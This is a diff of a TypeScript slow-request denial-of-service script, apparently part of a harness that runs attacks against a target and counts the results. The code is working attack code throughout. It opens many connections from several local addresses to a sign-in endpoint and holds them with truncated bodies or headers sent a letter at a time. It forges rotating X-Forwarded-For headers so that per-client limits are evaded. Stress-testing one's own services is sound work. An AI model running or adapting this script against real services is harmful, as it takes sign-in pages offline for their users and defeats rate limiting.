@@ -7,12 +7,9 @@ import { attack, type Target } from './attack.ts';
 
 interface Args extends Target {
   readonly connections: number;
-  /** Addresses of this machine that they come from. */
+  /** Addresses of this machine that they come from, by turns; for one of them, the proxy's own, a header tells each apart. */
   readonly peers: readonly string[];
-  /** The header that a proxy would add, for connections from one. */
-  readonly isProxy: boolean;
-  /** Bodies that stop before their end, or headers that come letter by letter. */
-  readonly what: 'bodies' | 'headers';
+  readonly proxy: string;
   /** How long it waits to be closed by the service. */
   readonly patienceSeconds: number;
 }
@@ -22,7 +19,7 @@ const BODY = Buffer.alloc(BODY_BYTES - 1024, 'x');
 const AT_ONCE = 100;
 const LETTER_MS = 1000;
 
-await attack<Args>(async ({ url, connections, peers, isProxy, what, patienceSeconds }, run) => {
+await attack<Args>(async ({ url, connections, peers, proxy, patienceSeconds }, run) => {
   const { port, hostname: host } = new URL(url);
   const open = new Set<Socket>();
   for (let n = 0; n < connections && !run.isOver(); n += AT_ONCE) await Promise.all(Array.from({ length: Math.min(AT_ONCE, connections - n) }, (_, k) => begin(n + k)));
@@ -33,7 +30,8 @@ await attack<Args>(async ({ url, connections, peers, isProxy, what, patienceSeco
   for (const socket of open) socket.destroy();
 
   async function begin(n: number): Promise<void> {
-    const socket = connect({ host, port: Number(port), localAddress: peers[n % peers.length]! });
+    const localAddress = peers[n % peers.length]!;
+    const socket = connect({ host, port: Number(port), localAddress });
     open.add(socket);
     socket.on('error', () => {});
     socket.once('close', () => void open.delete(socket));
@@ -44,9 +42,10 @@ await attack<Args>(async ({ url, connections, peers, isProxy, what, patienceSeco
       return run.tally('connections refused');
     }
     run.tally('connections');
-    const forwarded = isProxy ? `X-Forwarded-For: 10.9.${n >> 8}.${n & 255}\r\n` : '';
+    const forwarded = localAddress === proxy ? `X-Forwarded-For: 10.9.${n >> 8}.${n & 255}\r\n` : '';
     const head = `POST /sign-in HTTP/1.1\r\nHost: ${host}\r\n${forwarded}`;
-    if (what === 'bodies') {
+    // Of each peer's, some stop within the body, the others' headers come letter by letter.
+    if (Math.floor(n / peers.length) % 3 !== 0) {
       socket.write(`${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`);
       socket.write(BODY);
       return;
